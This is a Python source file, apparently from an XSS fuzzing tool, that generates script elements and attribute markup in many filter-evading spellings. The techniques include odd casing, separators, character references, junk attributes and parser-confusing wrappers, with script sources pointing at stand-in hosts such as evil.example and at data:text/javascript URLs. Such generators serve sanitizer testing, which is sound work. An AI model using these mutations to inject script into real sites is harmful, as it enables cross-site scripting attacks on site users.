"""The many ways of writing an element down: case, separators, quotes, references, junk, what is left open."""

from mutants_xss_elements import Elements

NAMED = {"(": "lpar", ")": "rpar", "'": "apos", '"': "quot", ":": "colon", "/": "sol", ".": "period", "=": "equals", "`": "grave",
    "<": "lt", ">": "gt",
         "\n": "NewLine", "\t": "Tab", "&": "amp", "[": "lsqb", "]": "rsqb", "{": "lcub", "}": "rcub", ";": "semi", ",": "comma",
         "+": "plus", "$": "dollar",
         "\\": "bsol", "!": "excl", "*": "ast", "_": "lowbar"}  # fmt: skip
JUNK = ["x", "a=b", "class=x", 'id="y"', "title='<'", "x=`", "alt", "style=x", "=x", "x==", "\"'", "data-a='>'", "on=1", "onx=y",
    "é=1", "width=1", "b/", "a='\n'", "href", "c=&lt;"]


# What markup may stand in, or behind: each is a place that looks like text to somebody who doesn't parse as browsers do.
WITHIN = ["<", "<<", "<x ", "<!x>", "<?x>", "</x y=1>", "<!-->", "<!--x-->", "<!--->", "<>", "</>", "</ >", "<a b=c", "&lt;",
    "<b>", "</p>", "<table><td>", "<svg><style>",
          "<svg><title>", "<svg><foreignObject>", "<math><mi>", "<math><annotation-xml encoding=text/html>",
          "<noscript><p title=\"</noscript>", "<style><a title='</style>",
          "<title><b x=\"</title>", "<textarea></textarea>", "<xmp><p title='</xmp>", "<noembed></noembed>", "<iframe></iframe>",
          "<select></select>", "<svg></svg>",
          "<!--<b x='-->", "<![CDATA[>", "<!DOCTYPE x>", "<svg><![CDATA[]]>", "<b x='<' y>", "<b/<", "<0", "<\0", "\0", "]]>",
          "'\"><", "<script></script>", "<script>/*</script>",
          "<button>", "<form><form>", "<p/></p>", "<ruby><rt>", "<marquee>", "<template></template>", "<a href='>'>"]  # fmt: skip


class Markup(Elements):
    def script_element(self, script):
        """The whole element: `<script …>…</script>`."""
        kind = self.one("text/javascript", "module", "application/javascript", "text/ecmascript", "TEXT/JAVASCRIPT", "",
            "application/x-javascript", "text/jscript", "text/javascript1.5")
        attributes = self.one([], [], [], [("type", kind)], [("language", "javascript")], [("async", None)], [("defer", None)],
            [("nonce", "x")])
        before = self.one("", "", "", "", "", "<svg>", "<svg/>", "<math>", "<b>", "<svg><g>", "<x y='z'>")
        body = script
        if before.startswith("<svg") and self.chance(0.5):
            self.used.append("entities")
            body = self.referenced(script)
        body = self.one("%s", "%s", "%s", "\n%s\n", "//<![CDATA[\n%s\n//]]>", "<!--\n%s\n//-->", "/*<!--*/%s", ";%s;",
            "{%s}").replace("%s", body)
        end = self.cased(self.one("</script>", "</script>", "</script >", "</script/>", "</script\n>", "</script x>",
            "</script\t>", "</script/x='>'>"))
        return before + self.tag("script", attributes) + body + end

    def script_source(self):
        url = self.one("//evil.example/x.js", "https://evil.example", "//evil.example", "\\\\evil.example\\x", "/\\evil.example",
            "http:\\\\evil.example", "//203.0.113.9/x",
                       "https:evil.example/x", "/\t/evil.example", "h\nttp://evil.example/", "//evil。example", "data:,alert(1)",
                       "data:text/javascript,alert(1)",
                       "data:text/javascript;base64,YWxlcnQoMSk=", "//%65vil.example", "//0xcb007109/x",
                       "https://user@evil.example", " //evil.example")  # fmt: skip
        attributes = self.one([], [], [("async", None)], [("type", "module")], [("defer", None)], [("crossorigin", None)],
            [("charset", "utf-8")])
        name, before, end = self.one(("src", "", "</script>"), ("src", "", "</script>"), (self.one("href", "xlink:href"), "<svg>",
            "</script>"), ("src", "", "</script x>"))
        return before + self.tag("script", self.dice.sample(attributes + [(name, url)], len(attributes) + 1)) + end

    def within(self, text):
        if self.chance(0.88):
            return text
        self.used.append("within")
        return self.one(*WITHIN) + text

    def cased(self, text):
        if self.chance(0.8):
            return text
        self.used.append("case")
        return "".join(self.one(c.upper(), c) for c in text)

    def referenced(self, text):
        """Characters as references, as far as a parser takes them off again."""
        share, out = self.one(0.1, 0.3, 1), []
        kinds = self.dice.sample(["&#%d;", "&#x%x;", "&#X%X;", "&#0000%d;", "&#x000%x;", "&#%d", "&#x%x", "named"], self.one(1, 2,
            8))
        for at, char in enumerate(text):
            after = text[at + 1 : at + 2]
            kind = self.one(*kinds)
            if not self.chance(share):
                out.append("&amp;" if char == "&" and self.chance(0.5) else char)
            elif kind == "named":
                out.append("&%s;" % NAMED[char] if char in NAMED else char)
            elif kind.endswith(";") or not (after.isalnum() or after == ";"):
                out.append(kind % ord(char))
            else:
                out.append((kind + ";") % ord(char))
        return "".join(out)

    def value(self, text, last, closed_by=None):
        """An attribute's value, in quotes or not; `closed_by`: the quote that the page closes it with."""
        if closed_by:
            return closed_by + text.replace("&", "&amp;").replace(closed_by, "&#%d;" % ord(closed_by))
        if self.chance(0.12):
            self.used.append("entities")
            text = self.referenced(text)
        bare = not set(text) & set(" \t\n\f\r>") and not text[:1] in ("", '"', "'") and not (text.endswith("/") and last)
        kinds = [q for q in "'\"" if q not in text] or ["escaped"]
        quote = self.dice.choice(["bare", "bare"] + kinds if bare else kinds)
        if quote == "bare":
            return text
        if quote == "escaped":
            return '"%s"' % text.replace('"', self.one("&quot;", "&#34;", "&#x22;"))
        return quote + text + quote

    def attributes(self, pairs, last=True, closed_by=None):
        """All of them with what separates them, the first with what stands before it."""
        pairs = list(pairs)
        if self.chance(0.15):
            self.used.append("junk")
            pairs.insert(self.dice.randrange(len(pairs)) if closed_by else self.dice.randrange(len(pairs) + 1), (None,
                self.one(*JUNK)))
        blank = self.one(" ", " ", " ", " ", "/", "\n", "\t", "\f", "\r\n", "  ", "/ ", " /", "//", "\n\n", "/\t")
        if blank != " ":
            self.used.append("separators")
        equals = self.one(*["="] * 8, " =", "= ", "\n=", "=\t", " = ", "=\f")
        out = ""
        for at, (name, value) in enumerate(pairs):
            final = at + 1 == len(pairs)
            if name is None:
                text = value
            elif value is None:
                text = self.cased(name)
            else:
                text = self.cased(name) + equals + self.value(value, final and last, closed_by if final else None)
            glued = out[-1:] in ("'", '"') and self.chance(0.1)
            bare = not glued and out and out[-1:] not in ("'",
                '"') and blank[:1] == "/"  # A slash would belong to the value before it.
            out += ("" if glued else " " if bare and self.chance(0.9) else blank) + text
        return out

    def tag(self, name, pairs, closed_by=None):
        if self.chance(0.02):
            self.used.append("null")
            name += self.one("\0", "")
        text = "<" + self.cased(name) + (self.attributes(pairs, True, closed_by) if pairs else "")
        return text + ("" if closed_by else self.one(">", ">", ">", ">", " >", "\n>", "/>" if text[-1:] in "'\"" else " />",
            " x>", " //>", "><!--"))

    def element(self, made, closed_by=None):
        name, pairs, after, before = made
        pairs = list(pairs)
        if closed_by:
            code = next(one for one in pairs if one[0].startswith("on") or one[0] in ("href", "src", "srcdoc", "data",
                "xlink:href", "action", "formaction"))
            pairs.remove(code)
            self.dice.shuffle(pairs)
            return before + self.tag(name, pairs + [code], closed_by)
        if self.chance(0.4):
            self.dice.shuffle(pairs)
        text = before + self.tag(name, pairs) + after
        if self.chance(0.06) and not after:
            self.used.append("unclosed")
            text = text.rstrip("><!-")
        return text
